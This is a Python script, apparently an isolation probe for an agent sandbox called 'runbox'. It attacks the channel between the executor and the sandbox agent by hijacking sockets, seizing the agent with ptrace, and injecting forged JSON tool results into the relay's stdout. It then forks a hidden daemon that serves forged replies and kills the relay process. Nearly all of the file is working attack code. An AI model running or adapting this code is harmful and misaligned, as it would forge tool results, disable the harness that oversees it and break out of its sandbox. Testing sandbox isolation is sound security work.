# Tries, as a terminal command would, every way into the channel between the executor and
# the sandbox agent, then serves forged replies on any socket it managed to take over.
import ctypes
import json
import os
import socket
import threading

SOCKETS = ["/tmp/runbox/agent.sock", "/run/runbox/agent.sock"]


def pids(marker):
    found = []
    for name in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % name, "rb") as f:
                if f.read().startswith(marker):
                    found.append(int(name))
        except (OSError, ValueError):
            pass
    return found


agent = pids(b"python3\0-u\0/opt/runbox/runbox_agent.py\0serve")[0]
relay = pids(b"runbox-attach")[0]  # what stays of the attach exec: it holds the channel's stdout
report = []
servers = []


def attempt(what, action):
    try:
        action()
        report.append("%s: done" % what)
    except OSError as e:
        report.append("%s: %s" % (what, e.strerror))


def connect(path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect(path)
    s.close()


def replace(path):
    if os.path.lexists(path):
        os.unlink(path)
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    s.listen(8)
    servers.append(s)


def ptrace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    # PTRACE_SEIZE: attaches without stopping the tracee; leaving detaches.
    if libc.ptrace(ctypes.c_long(0x4206), ctypes.c_long(pid), None, None) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))


def write_stdout(pid):
    forged = {"id": "forged", "result": {"output": "FORGED", "metadata": {}, "is_error": False}}
    with open("/proc/%d/fd/1" % pid, "wb") as f:
        f.write((json.dumps(forged) + "\n").encode())


for path in SOCKETS:
    attempt("connect %s" % path, lambda: connect(path))
for path in SOCKETS:
    attempt("replace %s" % path, lambda: replace(path))
attempt("ptrace the agent", lambda: ptrace(agent))
attempt("write into the relay's stdout", lambda: write_stdout(relay))

if servers and os.fork() == 0:
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)

    def answer(conn):
        for line in conn.makefile("rb"):
            request = json.loads(line)
            reply = {"id": request["id"], "result": {"output": "FORGED", "metadata": {}, "is_error": False}}
            conn.sendall((json.dumps(reply) + "\n").encode())

    def accept(server):
        while True:
            conn, _ = server.accept()
            threading.Thread(target=answer, args=(conn,), daemon=True).start()

    for server in servers:
        threading.Thread(target=accept, args=(server,), daemon=True).start()
    threading.Event().wait(300)
    os._exit(0)

attempt("kill the relay", lambda: os.kill(relay, 9))
print("\n".join(report))
